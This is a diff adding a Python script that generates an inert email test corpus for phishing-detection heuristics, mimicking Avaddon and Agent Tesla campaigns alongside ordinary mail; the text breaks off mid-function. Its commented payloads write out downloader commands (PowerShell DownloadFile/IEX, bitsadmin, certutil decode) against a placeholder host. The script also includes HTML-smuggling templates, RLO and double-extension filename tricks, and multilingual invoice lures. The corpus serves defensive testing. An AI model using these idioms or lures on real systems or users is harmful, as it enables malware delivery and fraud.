@@ -1,0 +1,997 @@
+#!/usr/bin/env python3
+"""gen-corpus.py [-s SEED] OUTDIR - the heuristics corpus: campaign look-alikes and
+ordinary mail, for bench/heuristics.sh and tests/corpus.sh.
+
+Writes OUTDIR/cNNN-CATEGORY.eml (campaign look-alikes: Avaddon lures and NEGASTEAL /
+Agent Tesla waves and their variants, after ../../../shared/campaigns.md), OUTDIR/
+hNNN-CATEGORY.eml (ordinary mail: business mail in many languages and scripts,
+newsletters, invoices with real PDFs, photos, invitations, RTF, ISO, legitimate
+macros and scripts) and OUTDIR/MANIFEST, one line per message:
+    FILE <TAB> campaign|clean <TAB> CATEGORY <TAB> TRICK
+The same SEED (default 20200608) gives the same bytes; OUTDIR's old *.eml and
+MANIFEST are replaced.
+
+Everything is inert: executables are stubs (magic bytes and zeros), scripts are
+comments, smuggled payloads decode to a stub, macros only name what a downloader
+would call; every message carries INERT-TEST-FIXTURE (header X-Corpus) and names
+only example.com and .invalid hosts.  Office documents with macros come from
+tests/samples/mkoffice.py when it is there; without it those cases are left out
+(stderr says so).  Python 3 standard library only.
+"""
+
+import argparse
+import datetime
+import email.policy
+import email.utils
+import os
+import random
+import sys
+from email.message import EmailMessage
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE)
+sys.path.insert(1, os.path.join(HERE, "..", "samples"))
+import formats as F  # noqa: E402
+
+try:
+    import mkoffice  # noqa: E402
+except ImportError:
+    mkoffice = None
+
+MARK = F.MARK
+POLICY = email.policy.default.clone(linesep="\n", max_line_length=78)
+T0 = datetime.datetime(2020, 6, 8, 7, 15, tzinfo=datetime.timezone.utc)
+
+MIME = {"zip": "application/zip", "rar": "application/x-rar-compressed",
+        "7z": "application/x-7z-compressed", "gz": "application/gzip",
+        "tgz": "application/gzip", "lzh": "application/x-lzh-compressed",
+        "iso": "application/x-iso9660-image", "img": "application/octet-stream",
+        "ace": "application/x-ace-compressed", "exe": "application/x-msdownload",
+        "pdf": "application/pdf", "jpg": "image/jpeg", "png": "image/png",
+        "html": "text/html", "htm": "text/html", "rtf": "application/rtf",
+        "doc": "application/msword", "js": "application/javascript",
+        "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+        "docm": "application/vnd.ms-word.document.macroEnabled.12",
+        "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.12",
+        "xlam": "application/vnd.ms-excel.addin.macroEnabled.12",
+        "pptm": "application/vnd.ms-powerpoint.presentation.macroEnabled.12",
+        "ppam": "application/vnd.ms-powerpoint.addin.macroEnabled.12",
+        "xls": "application/vnd.ms-excel", "ics": "text/calendar", "csv": "text/csv",
+        "txt": "text/plain", "dat": "application/octet-stream", "svg": "image/svg+xml"}
+
+
+def mime_of(name):
+    ext = name.rsplit(".", 1)[-1].lower().strip(". ")
+    return MIME.get(ext, "application/octet-stream")
+
+
+class Corpus:
+    """The messages and their MANIFEST lines, numbered in the order they are made."""
+
+    def __init__(self, seed):
+        self.seed = seed
+        self.rng = random.Random(seed)
+        self.msgs = []      # (file, bytes)
+        self.manifest = []  # (file, class, category, trick)
+
+    def digits(self, n):
+        return "".join(str(self.rng.randrange(10)) for _ in range(n))
+
+    def mail(self, subject, text, frm, to, html=None, atts=(), cc=None, reply=None):
+        """An RFC 5322 message; ATTS are (name, bytes[, type]) or an EmailMessage."""
+        m = EmailMessage(policy=POLICY)
+        n = len(self.msgs)
+        m["From"] = frm
+        m["To"] = to
+        if cc:
+            m["Cc"] = cc
+        m["Subject"] = subject
+        m["Date"] = email.utils.format_datetime(T0 + datetime.timedelta(minutes=37 * n))
+        m["Message-ID"] = "<%d.%d.corpus@mail.example.com>" % (self.seed, n)
+        if reply:
+            m["In-Reply-To"] = reply
+        m["X-Corpus"] = MARK
+        m.set_content(text)
+        if html is not None:
+            m.add_alternative(html, subtype="html")
+        for a in atts:
+            if isinstance(a, EmailMessage):
+                m.add_attachment(a)
+                continue
+            name, data = a[0], a[1]
+            ctype = a[2] if len(a) > 2 else mime_of(name)
+            main, sub = ctype.split("/")
+            if main == "text":
+                m.add_attachment(data.decode("utf-8") if isinstance(data, bytes) else data,
+                                 subtype=sub, filename=name)
+            else:
+                m.add_attachment(data, maintype=main, subtype=sub, filename=name)
+        i = 0
+        for part in m.walk():
+            if part is not m:
+                del part["MIME-Version"]
+            if part.is_multipart():
+                part.set_boundary("=_corpus_%d_%d_%d" % (self.seed, n, i))
+                i += 1
+        return m
+
+    def add(self, cls, category, trick, m):
+        f = "%s%03d-%s.eml" % ("c" if cls == "campaign" else "h", len(self.msgs) + 1, category)
+        self.msgs.append((f, m.as_bytes(policy=POLICY)))
+        self.manifest.append((f, cls, category, trick))
+
+    def write(self, out):
+        os.makedirs(out, exist_ok=True)
+        for f in os.listdir(out):
+            if f.endswith(".eml") or f == "MANIFEST":
+                os.remove(os.path.join(out, f))
+        for f, b in self.msgs:
+            with open(os.path.join(out, f), "wb") as fh:
+                fh.write(b)
+        with open(os.path.join(out, "MANIFEST"), "w", encoding="utf-8") as fh:
+            fh.write("# file\tclass\tcategory\ttrick\n")
+            for row in self.manifest:
+                fh.write("\t".join(row) + "\n")
+
+
+# ---------------------------------------------------------------- people
+
+
+SENDERS = ["Anna Keller <anna.keller@example.com>", "Pierre Martin <p.martin@fr.example.com>",
+           "Lucía Gómez <lucia.gomez@es.example.com>", "Marco Rossi <m.rossi@it.example.com>",
+           "佐藤 健 <k.sato@jp.example.com>", "王 芳 <wang.fang@cn.example.com>",
+           "Ольга Смирнова <o.smirnova@ru.example.com>", "Ahmet Yılmaz <ahmet@tr.example.com>",
+           "Accounts <accounts@supplier.example.com>", "Sales Team <sales@vendor.example.com>"]
+RCPT = "Purchasing <purchasing@example.com>"
+BOT = ["Jenny <jenny%d@bot.example.invalid>", "Mike <mike%d@mail.example.invalid>",
+       "<user%d@dyn.example.invalid>", "Kate <k%d@example.invalid>"]
+
+
+# ---------------------------------------------------------------- inert payloads
+
+
+def js_downloader(rng, style):
+    """A comment-only JScript look-alike of the Avaddon downloader, in STYLE."""
+    tmp = "".join(str(rng.randrange(10)) for _ in range(9))
+    body = {
+        "plain": ("var sh = WScript.CreateObject(\"WScript.Shell\");\n"
+                  "sh.Run(\"powershell -w hidden -c (New-Object Net.WebClient).DownloadFile("
+                  "'http://cdn.example.invalid/%s.exe', $env:TEMP + '\\\\%s.exe')\");\n"
+                  "sh.Run(\"bitsadmin /transfer j http://cdn.example.invalid/%s.exe %%TEMP%%\\\\%s.exe\");\n"
+                  % (tmp, tmp, tmp, tmp)),
+        "split": ("var a = \"WScr\" + \"ipt.Sh\" + \"ell\", b = \"pow\" + \"ersh\" + \"ell\";\n"
+                  "var o = new ActiveXObject(a); o[\"R\" + \"un\"](b + \" -enc \" + payload);\n"
+                  "// payload fetches http://cdn.example.invalid/%s.bin into GetSpecialFolder(2)\n" % tmp),
+        "charcode": ("var k = String.fromCharCode(87,83,99,114,105,112,116,46,83,104,101,108,108);\n"
+                     "var x = new ActiveXObject(\"MSXML2.XMLHTTP\"); x.open(\"GET\", "
+                     "\"http://cdn.example.invalid/%s\", false);\n"
+                     "var s = new ActiveXObject(\"ADODB.Stream\"); s.SaveToFile(tmp + \"\\\\%s.exe\");\n"
+                     "eval(\"new ActiveXObject(k).Run(tmp)\");\n" % (tmp, tmp)),
+        "certutil": ("var w = new ActiveXObject(\"WScript.Shell\");\n"
+                     "w.Run(\"certutil -urlcache -split -f http://cdn.example.invalid/%s.txt "
+                     "%%TEMP%%\\\\%s.txt && certutil -decode %%TEMP%%\\\\%s.txt %%TEMP%%\\\\%s.exe\");\n"
+                     % (tmp, tmp, tmp, tmp)),
+    }[style]
+    return ("// %s: comments only, nothing runs\n/*\n%s*/\n" % (MARK, body)).encode()
+
+
+def vbs_downloader(rng):
+    tmp = "".join(str(rng.randrange(10)) for _ in range(8))
+    return ("' %s: comments only, nothing runs\n"
+            "' Set x = CreateObject(\"MSXML2.XMLHTTP\") : x.Open \"GET\", "
+            "\"http://cdn.example.invalid/%s.exe\", False\n"
+            "' Set s = CreateObject(\"ADODB.Stream\") : s.SaveToFile "
+            "CreateObject(\"Scripting.FileSystemObject\").GetSpecialFolder(2) & \"\\%s.exe\"\n"
+            "' CreateObject(\"WScript.Shell\").Run \"%%TEMP%%\\%s.exe\"\n" % (MARK, tmp, tmp, tmp)).encode()
+
+
+def hta_downloader():
+    return ("<html><head><!-- %s --><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"/>"
+            "</head><body><script language=\"VBScript\">\n"
+            "' CreateObject(\"WScript.Shell\").Run \"powershell -c IEX (New-Object Net.WebClient)"
+            ".DownloadString('http://cdn.example.invalid/s.ps1')\"\n"
+            "</script></body></html>\n" % MARK).encode()
+
+
+STUB_B64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+
+
+def smuggling_html(rng, idiom, payload_b64=None):
+    """An HTML page that would rebuild a file from base64 in the browser (inert: the
+    click is commented out and the payload is a stub)."""
+    p = payload_b64 or (STUB_B64 + "A" * (8 * rng.randrange(60, 90)))
+    name = "Remittance_%s.iso" % "".join(str(rng.randrange(10)) for _ in range(5))
+    js = {
+        "atob-blob": ("var b = atob(\"%s\"), u = new Uint8Array(b.length);\n"
+                      "for (var i = 0; i < b.length; i++) u[i] = b.charCodeAt(i);\n"
+                      "var a = document.createElement(\"a\");\n"
+                      "a.href = URL.createObjectURL(new Blob([u], {type: \"application/octet-stream\"}));\n"
+                      "a.download = \"%s\"; /* a.click(); */\n" % (p, name)),
+        "mssave": ("var d = window.atob('%s');\nvar arr = new Uint8Array(d.length);\n"
+                   "for (var j = 0; j < d.length; j++) { arr[j] = d.charCodeAt(j); }\n"
+                   "var blob = new Blob([arr]);\n"
+                   "if (window.navigator.msSaveOrOpenBlob) { /* window.navigator.msSaveOrOpenBlob"
+                   "(blob, '%s'); */ }\n" % (p, name)),
+        "uint8-from": ("const data = Uint8Array.from(atob(`%s`), c => c.charCodeAt(0));\n"
+                       "const f = new File([data], '%s', {type: 'application/x-iso9660-image'});\n"
+                       "const link = document.createElement('a');\n"
+                       "link.setAttribute('href', window.URL.createObjectURL(f));\n"
+                       "link.setAttribute('download', f.name);\n"
+                       "// link.dispatchEvent(new MouseEvent('click'));\n" % (p, name)),
+        "fetch-data": ("fetch('data:application/octet-stream;base64,%s')\n"
+                       "  .then(r => r.blob())\n  .then(b => { const u = URL.createObjectURL(b);\n"
+                       "    const e = document.getElementById('dl'); e.href = u; e.download = '%s';\n"
+                       "    /* e.click(); */ });\n" % (p, name)),
+        "reversed": ("var s = document.getElementById('d').textContent.split('').reverse().join('');\n"
+                     "var raw = self['at' + 'ob'](s), n = raw.length, buf = new Uint8Array(n);\n"
+                     "while (n--) buf[n] = raw.charCodeAt(n);\n"
+                     "var url = URL['createObj' + 'ectURL'](new Blob([buf.buffer]));\n"
+                     "var l = document.createElement('a'); l.href = url; l['down' + 'load'] = '%s';\n"
+                     "document.body.appendChild(l); // l.click();\n" % name),
+    }[idiom]
+    hidden = ""
+    if idiom == "reversed":
+        hidden = "<div id=\"d\" style=\"display:none\">%s</div>\n" % p[::-1]
+    return ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Document</title></head>\n"
+            "<body><!-- %s -->\n<p>Loading your document, please wait...</p>\n"
+            "<a id=\"dl\"></a>\n%s<script>\n%s</script></body></html>\n" % (MARK, hidden, js)).encode()
+
+
+def equation_hex():
+    """OLE1 header naming Equation.3 and a CFB start with the Equation CLSID, as hex."""
+    cls = b"Equation.3\0"
+    data = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + bytes.fromhex("3e000300feff0900")
+            + b"\0" * 40 + "Root Entry".encode("utf-16-le") + b"\0" * 44
+            + bytes.fromhex("02ce020000000000c000000000000046") + b"\0" * 64
+            + MARK.encode())
+    ole1 = (bytes.fromhex("01050000") + bytes.fromhex("02000000") + len(cls).to_bytes(4, "little")
+            + cls + b"\0" * 8 + len(data).to_bytes(4, "little") + data)
+    return ole1.hex()
+
+
+def rtf_equation(rng, style, lure_lines):
+    """An RTF with an Equation Editor object written in STYLE."""
+    h = equation_hex()
+    head = "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}"
+    cls = "{\\*\\objclass Equation.3}"
+    text = "".join(F.rtf_escape(line) + "\\par\n" for line in lure_lines)
+    if style == "tidy":
+        obj = h
+    elif style == "newlines":
+        obj = "\n".join(h[i:i + rng.choice([32, 48, 64, 76])] for i in range(0, len(h), 64))
+    elif style == "spaces-upper":
+        obj = " ".join(h[i:i + 2] for i in range(0, len(h), 2)).upper()
+    elif style == "control-words":
+        parts = []
+        for i in range(0, len(h), 2):
+            parts.append(h[i:i + 2])
+            if rng.randrange(6) == 0:
+                parts.append(rng.choice(["{\\*\\mvx}", "\\'0d", " \r\n", "{\\*\\panose 0}", "\t"]))
+        obj = "".join(parts).replace("\\'0d", "")
+        cls = ""
+    elif style == "late":
+        obj = h
+        text += "".join("Clause %d. Delivery, payment and warranty terms apply as agreed in the "
+                        "framework contract between the parties.\\par\n" % i for i in range(1, 70))
+    elif style == "no-rtf1":
+        head = "{\\rtvpn\\ansi"
+        obj = h
+    else:
+        raise ValueError(style)
+    return ("%s\\f0\\fs20 %s%s\\par\n{\\object\\objemb\\objupdate%s\\objw380\\objh260"
+            "{\\*\\objdata %s}{\\result {\\pict\\wmetafile8 0100}}}}\n" % (head, text, MARK, cls, obj)).encode()
+
+
+# ---------------------------------------------------------------- lures by language
+
+
+# lang: (invoice, PO, payment, shipping, quotation) subjects; body; password word; signature
+LURES = {
+    "en": (["Invoice INV-{n} overdue", "New purchase order PO#{n}", "Payment advice - remittance {n}",
+            "DHL Shipment Notification AWB {n}", "Request for quotation RFQ-{n}"],
+           "Dear Sir/Madam,\n\nPlease find attached the documents for our reference {n}. Kindly "
+           "confirm receipt and revert with your best price and delivery time.\n",
+           "Password", "Best regards,\nJohn Carter\nProcurement Manager\nGlobal Trading Ltd."),
+    "de": (["Rechnung Nr. {n} - Zahlungserinnerung", "Bestellung {n} - bitte bestätigen",
+            "Zahlungsavis {n}", "Ihre Sendung {n}: Lieferschein und Frachtbrief",
+            "Angebotsanfrage {n}"],
+           "Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie die Unterlagen zu Vorgang {n}. "
+           "Bitte prüfen Sie die Anlage und bestätigen Sie den Eingang.\n",
+           "Passwort", "Mit freundlichen Grüßen\nKlaus Becker\nEinkauf"),
+    "fr": (["Facture n° {n} impayée", "Bon de commande {n}", "Avis de paiement {n}",
+            "Avis d'expédition - connaissement {n}", "Demande de devis {n}"],
+           "Bonjour,\n\nVeuillez trouver ci-joint les documents relatifs au dossier {n}. "
+           "Merci de confirmer la bonne réception.\n",
+           "Mot de passe", "Cordialement,\nSophie Laurent\nService comptabilité"),
+    "es": (["Factura {n} pendiente de pago", "Orden de compra {n}", "Comprobante de transferencia {n}",
+            "Aviso de envío - conocimiento de embarque {n}", "Solicitud de cotización {n}"],
+           "Estimado cliente,\n\nAdjunto le enviamos la documentación de la operación {n}. "
+           "Por favor, confirme la recepción.\n",
+           "Contraseña", "Saludos cordiales,\nJavier Ruiz\nDepartamento de compras"),
+    "it": (["Fattura n. {n} scaduta", "Ordine d'acquisto {n}", "Contabile bonifico {n}",
+            "Avviso di spedizione {n}", "Richiesta di preventivo {n}"],
+           "Gentile cliente,\n\nin allegato trova la documentazione relativa alla pratica {n}. "
+           "La preghiamo di confermare la ricezione.\n",
+           "Password", "Cordiali saluti,\nGiulia Bianchi\nUfficio amministrazione"),
+    "pt": (["Fatura {n} em atraso", "Pedido de compra {n}", "Comprovante de pagamento {n}",
+            "Aviso de embarque {n}", "Pedido de cotação {n}"],
+           "Prezados,\n\nSegue em anexo a documentação referente ao processo {n}. "
+           "Favor confirmar o recebimento.\n",
+           "Senha", "Atenciosamente,\nRicardo Souza\nCompras"),
+    "ja": (["請求書 {n} のご送付", "注文書 {n} の件", "お支払い明細 {n}", "荷物の配送に関するお知らせ {n}",
+            "見積依頼 {n}"],
+           "お世話になっております。\n\n案件 {n} の書類を添付いたします。ご確認のほどよろしくお願いいたします。\n",
+           "パスワード", "よろしくお願いいたします。\n山田 太郎\n購買部"),
+    "zh": (["发票 {n} 请查收", "采购订单 {n}", "付款通知 {n}", "发货通知 提单 {n}", "询价单 {n}"],
+           "您好，\n\n附件是编号 {n} 的相关文件，请查收并确认。\n",
+           "密码", "此致\n敬礼\n李明\n采购部"),
+    "ru": (["Счёт на оплату № {n}", "Заказ на поставку {n}", "Платёжное поручение {n}",
+            "Уведомление об отгрузке {n}", "Запрос коммерческого предложения {n}"],
+           "Добрый день,\n\nво вложении документы по заявке {n}. Просим подтвердить получение.\n",
+           "Пароль", "С уважением,\nИгорь Петров\nОтдел закупок"),
+    "tr": (["Fatura {n} ödeme hatırlatması", "Satın alma siparişi {n}", "Ödeme dekontu {n}",
+            "Sevkiyat bildirimi {n}", "Fiyat teklifi talebi {n}"],
+           "Merhaba,\n\n{n} numaralı işleme ait belgeler ektedir. Lütfen kontrol ediniz.\n",
+           "Şifre", "Saygılarımızla,\nMehmet Demir\nSatın Alma"),
+    "pl": (["Faktura nr {n} - przypomnienie", "Zamówienie {n}", "Potwierdzenie przelewu {n}",
+            "Awizo dostawy {n}", "Zapytanie ofertowe {n}"],
+           "Dzień dobry,\n\nw załączeniu przesyłamy dokumenty do sprawy {n}. Prosimy o potwierdzenie.\n",
+           "Hasło", "Z poważaniem,\nAnna Nowak\nDział zakupów"),
+    "nl": (["Factuur {n} openstaand", "Inkooporder {n}", "Betalingsbewijs {n}",
+            "Verzendbevestiging {n}", "Offerteaanvraag {n}"],
+           "Geachte heer/mevrouw,\n\nIn de bijlage vindt u de documenten voor dossier {n}. "
+           "Graag bevestiging van ontvangst.\n",
+           "Wachtwoord", "Met vriendelijke groet,\nPieter de Vries\nInkoop"),
+}
+LURE_KIND = {"invoice": 0, "po": 1, "payment": 2, "shipping": 3, "quote": 4}
+FILE_WORD = {"invoice": ["Invoice", "Rechnung", "Facture", "Factura", "INV"],
+             "po": ["PO", "Purchase_Order", "Bestellung", "Order", "Pedido"],
+             "payment": ["Payment_Advice", "Remittance", "SWIFT_Copy", "TT_Copy", "Zahlungsavis"],
+             "shipping": ["Shipping_Documents", "BL_Draft", "AWB", "Packing_List", "DHL_Receipt"],
+             "quote": ["RFQ", "Quotation", "Angebot", "Devis", "Cotizacion"]}
+
+
+# ---------------------------------------------------------------- campaign look-alikes
+
+
+AVADDON_SUBJECTS = ["Look at this photo!", "Photo just for you", "You look good here",
+                    "I love this photo", "Is this your photo?", "Is this you?",
+                    "My favourite photo", "You like this photo?", "Your new photo?",
+                    "Do you like my photo?", "\U0001F609", ";)"]
+AVADDON_SUBJECTS_INTL = ["Ist das dein Foto?", "C'est toi sur cette photo ?",
+                         "¿Eres tú en esta foto?", "Sei tu in questa foto?", "Это ты на фото?",
+                         "これはあなたの写真ですか？", "Is dit jouw foto?", "To ty na tym zdjęciu?",
+                         "check this pic lol", "haha look at you here"]
+SMILEYS = [";)", ":)", ";-)", ":-)", "\U0001F609", "\U0001F60A", ":D", "^_^", ";)\n"]
+
+
+def avaddon(c):
+    rng = c.rng
+    bot = lambda: rng.choice(BOT) % rng.randrange(100, 999)  # noqa: E731
+    rcpt = "<user%d@example.com>" % rng.randrange(100)
+
+    # wave 1 and its close variants: IMG<6 digits>.<image>.<script> in a zip
+    shapes = [("IMG%s.jpg.js", "plain", "exact wave 1 name"),
+              ("IMG%s.jpeg.js", "split", "jpeg ext, split strings"),
+              ("IMG%s.JPG.js", "charcode", "upper-case JPG, fromCharCode"),
+              ("PIC%s.png.js", "certutil", "PIC prefix, png, certutil"),
+              ("DSC%s.jpg.jse", "plain", "camera DSC prefix, jse"),
+              ("IMG_%s.jpg.js", "split", "underscore name"),
+              ("photo_%s.jpg.js", "charcode", "photo_ prefix"),
+              ("IMG%s.jpg.vbs", None, "vbs instead of js"),
+              ("IMG%s.jpg.wsf", None, "wsf instead of js"),
+              ("IMG%s.jpg.hta", None, "hta instead of js")]
+    for i, (shape, style, trick) in enumerate(shapes):
+        name = shape % c.digits(6)
+        if name.endswith(".vbs"):
+            data = vbs_downloader(rng)
+        elif name.endswith(".hta"):
+            data = hta_downloader()
+        elif name.endswith(".wsf"):
+            data = ("<job id=\"x\"><!-- %s --><script language=\"JScript\">\n" % MARK).encode() + \
+                js_downloader(rng, "plain") + b"</script></job>\n"
+        else:
+            data = js_downloader(rng, style)
+        subj = AVADDON_SUBJECTS[i % len(AVADDON_SUBJECTS)]
+        z = F.zip_archive([(name, data)])
+        c.add("campaign", "avaddon-photo-zip", trick + ", subject '%s'" % subj,
+              c.mail(subj, SMILEYS[i % len(SMILEYS)], bot(), rcpt, atts=[(name + ".zip", z)]))
+
+    # other languages and other words for the same lure
+    for i, subj in enumerate(AVADDON_SUBJECTS_INTL[:6]):
+        name = "IMG%s.jpg.js" % c.digits(6)
+        body = rng.choice(SMILEYS) if i % 2 == 0 else rng.choice(["Lol", "\U0001F602\U0001F602", "xD"])
+        c.add("campaign", "avaddon-photo-lang", "lure in another language: " + subj,
+              c.mail(subj, body, bot(), rcpt,
+                     atts=[(name + ".zip", F.zip_archive([(name, js_downloader(rng, "split"))]))]))
+
+    # other containers and nesting
+    name = "IMG%s.jpg.js" % c.digits(6)
+    inner = F.zip_archive([(name, js_downloader(rng, "plain"))])
+    c.add("campaign", "avaddon-nested", "zip in a zip",
+          c.mail("Is this you?", ";)", bot(), rcpt, atts=[("IMG%s.zip" % c.digits(6),
+                                                          F.zip_archive([(name + ".zip", inner)]))]))
+    name = "IMG%s.jpg.js" % c.digits(6)
+    c.add("campaign", "avaddon-nested", "gzip keeping the script name in FNAME, named photo.gz",
+          c.mail("Photo just for you", ":)", bot(), rcpt,
+                 atts=[("IMG%s.gz" % c.digits(6), F.gzip_file(name, js_downloader(rng, "charcode")))]))
+    name = "IMG%s.jpg.js" % c.digits(6)
+    c.add("campaign", "avaddon-nested", "7z holding the script",
+          c.mail("I like this photo", "\U0001F609", bot(), rcpt,
+                 atts=[(name + ".7z", F.sevenzip([(name, js_downloader(rng, "plain"))]))]))
+    name = "IMG%s.jpg.js" % c.digits(6)
+    c.add("campaign", "avaddon-nested", "rar holding the script",
+          c.mail("You look good here", ";-)", bot(), rcpt,
+                 atts=[(name + ".rar", F.rar4([(name, js_downloader(rng, "certutil"))]))]))
+    name = "IMG%s.jpg.js" % c.digits(6)
+    c.add("campaign", "avaddon-direct", "script attached without an archive",
+          c.mail("My favourite photo", ";)", bot(), rcpt,
+                 atts=[(name, js_downloader(rng, "split"), "application/octet-stream")]))
+    name = "IMG%s\u202egpj.js" % c.digits(6)
+    c.add("campaign", "avaddon-rlo", "RIGHT-TO-LEFT OVERRIDE member name (shows as ...sj.jpg)",
+          c.mail("Is this your photo?", ";)", bot(), rcpt,
+                 atts=[("IMG%s.zip" % c.digits(6), F.zip_archive([(name, js_downloader(rng, "plain"))]))]))
+    c.add("campaign", "avaddon-emoticon", "2019 emoticon wave IMG<n>_2018-JPG.zip",
+          c.mail(";-)", ":)", bot(), rcpt,
+                 atts=[("IMG%s_2018-JPG.zip" % c.digits(4),
+                        F.zip_archive([("IMG%s_2018-JPG.js" % c.digits(4), js_downloader(rng, "plain"))]))]))
+
+
+def negasteal_archives(c):
+    rng = c.rng
+    langs = list(LURES)
+    cases = [  # (kind, container, member shape, trick)
+        ("po", "zip", "{w}_{n}.exe", "zip holding a .NET stub"),
+        ("invoice", "rar", "{w}_{n}.exe", "rar holding a .NET stub"),
+        ("quote", "7z", "{w}_{n}.exe", "7z (copy coder) holding a .NET stub"),
+        ("payment", "gz", "{w}_{n}.exe", "gzip whose FNAME is the .exe"),
+        ("shipping", "lzh", "{w}_{n}.exe", "LZH (-lh0-) holding a .NET stub"),
+        ("shipping", "iso", "{W}_{n}.EXE", "ISO 9660 image holding a .NET stub"),
+        ("invoice", "img", "{W}_{n}.EXE", "ISO image named .img"),
+        ("shipping", "ace", "{w}_{n}.exe", "ACE archive (nothing opens it)"),
+        ("po", "tgz", "{w}_{n}.scr", "tar.gz holding a .scr"),
+        ("payment", "zip", "{w}_{n}.pdf.exe", "double extension inside a zip"),
+        ("invoice", "zip", "{w}_{n}.xlsx      .exe", "double extension padded with spaces"),
+        ("quote", "zip", "{w}#{n}.com", "RFQ#digits.com"),
+        ("po", "rar", "{w}_{n}.pif", "pif in rar"),
+        ("shipping", "zip", "{w}_{n}.DAT", "PE stub named .DAT"),
+        ("payment", "iso", "{W}_{n}.PDF.EXE", "double extension in an ISO"),
+        ("invoice", "zip", "{w}_{n}\u202efdp.exe", "RLO in the member name (shows ...exe.pdf)"),
+        ("po", "lzh", "{w}_{n}.bat", "batch file in LZH"),
+        ("quote", "gz", "{w}_{n}.pdf.scr", "gzip FNAME with a double extension"),
+        ("shipping", "zip", "{w}_{n}.lnk", "shortcut in a zip"),
+        ("po", "7z", "{w}_{n}.vbs", "vbs downloader in 7z"),
+    ]
+    for i, (kind, cont, shape, trick) in enumerate(cases):
+        lang = langs[i % len(langs)]
+        subjects, body, _, sig = LURES[lang]
+        n = c.digits(rng.choice([5, 6, 7]))
+        w = rng.choice(FILE_WORD[kind])
+        member = shape.format(w=w, W=w.upper(), n=n)
+        if member.endswith(".lnk"):
+            data = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56 + MARK.encode()
+        elif member.endswith((".vbs", ".bat")):
+            data = vbs_downloader(rng)
+        else:
+            data = F.pe_stub(dotnet=True)
+        base = "%s_%s" % (w, n)
+        if cont == "zip":
+            att = F.zip_archive([(member, data)])
+        elif cont == "rar":
+            att = F.rar4([(member, data)])
+        elif cont == "7z":
+            att = F.sevenzip([(member, data)])
+        elif cont == "gz":
+            att = F.gzip_file(member, data)
+        elif cont == "lzh":
+            att = F.lzh([(member, data)])
+        elif cont in ("iso", "img"):
+            att = F.iso9660([(member, data)])
+        elif cont == "ace":
+            att = F.ace_stub(member)
+        elif cont == "tgz":
+            att = F.tar_gz([(member, data)])
+        subj = subjects[LURE_KIND[kind]].format(n=n)
+        text = body.format(n=n) + "\n" + sig + "\n"
+        c.add("campaign", "negasteal-archive-exe" if cont not in ("iso", "img") else "negasteal-disk-image",
+              "%s lure (%s): %s" % (kind, lang, trick),
+              c.mail(subj, text, rng.choice(SENDERS), RCPT, atts=[("%s.%s" % (base, cont), att)]))
+
+    # encrypted archives, the password in the body
+    for i, lang in enumerate(["en", "de", "fr", "es", "ja", "ru", "it", "zh"]):
+        subjects, body, pw_word, sig = LURES[lang]
+        kind = ["invoice", "payment", "po", "shipping"][i % 4]
+        n = c.digits(6)
+        pw = rng.choice(["Inv", "Doc", "PO", "2020"]) + c.digits(4)
+        member = "%s_%s.exe" % (rng.choice(FILE_WORD[kind]), n)
+        sep = "：" if lang in ("ja", "zh") else ": "
+        text = body.format(n=n) + "\n%s%s%s\n\n%s\n" % (pw_word, sep, pw, sig)
+        if i < 5:
+            att = ("%s_%s.zip" % (FILE_WORD[kind][0], n),
+                   F.zip_archive([(member, F.pe_stub())], password=pw, rng=rng))
+            cat, trick = "negasteal-encrypted-zip", "ZipCrypto zip, password in the body (%s)" % lang
+        else:
+            att = ("%s_%s.7z" % (FILE_WORD[kind][0], n),
+                   F.sevenzip([(member, F.pe_stub())], encrypted=True, encrypted_header=(i % 2 == 1),
+                              rng=rng))
+            cat = "negasteal-encrypted-7z"
+            trick = "7zAES%s, password in the body (%s)" % (" with encrypted header" if i % 2 else
+                                                            ", names listed", lang)
+        c.add("campaign", cat, trick,
+              c.mail(subjects[LURE_KIND[kind]].format(n=n), text, rng.choice(SENDERS), RCPT, atts=[att]))
+
+    # executables attached directly, names that lie
+    for i, (shape, trick) in enumerate([("{w}_{n}.pdf.exe", "double extension"),
+                                        ("{w}_{n}.pdf\u202eexe.scr", "RLO (shows ...rcs.exe.pdf)"),
+                                        ("{w}_{n}.xlsx.scr", "double extension scr"),
+                                        ("{w}_{n}.DAT", "PE stub named .DAT"),
+                                        ("{w}_{n}.jpg", "PE stub named .jpg")]):
+        lang = ["en", "it", "es", "it", "pt"][i]
+        kind = ["payment", "invoice", "po", "po", "shipping"][i]
+        subjects, body, _, sig = LURES[lang]
+        n = c.digits(5)
+        name = shape.format(w=rng.choice(FILE_WORD[kind]), n=n)
+        ctype = "application/pdf" if name.endswith(".exe") else None
+        att = (name, F.pe_stub()) + ((ctype,) if ctype else ())
+        c.add("campaign", "negasteal-exe-named", "%s (%s)" % (trick, lang),
+              c.mail(subjects[LURE_KIND[kind]].format(n=n), body.format(n=n) + "\n" + sig + "\n",
+                     rng.choice(SENDERS), RCPT, atts=[att]))
+
+
+def negasteal_documents(c):
+    rng = c.rng
+    styles = [("tidy", "en", "quote"), ("newlines", "de", "po"), ("spaces-upper", "fr", "invoice"),
+              ("control-words", "es", "quote"), ("late", "it", "po"), ("no-rtf1", "tr", "payment"),
+              ("newlines", "ja", "quote"), ("control-words", "ru", "invoice")]
+    for i, (style, lang, kind) in enumerate(styles):
+        subjects, body, _, sig = LURES[lang]
+        n = c.digits(5)
+        doc = rtf_equation(rng, style, [subjects[LURE_KIND[kind]].format(n=n), "Ref. %s" % n])
+        name = "%s_%s.%s" % (rng.choice(FILE_WORD[kind]), n, "doc" if i % 2 else "rtf")
+        atts = [(name, doc)]
+        trick = "RTF Equation Editor object, hex %s, named .%s" % (style, name.rsplit(".", 1)[1])
+        if i == 7:
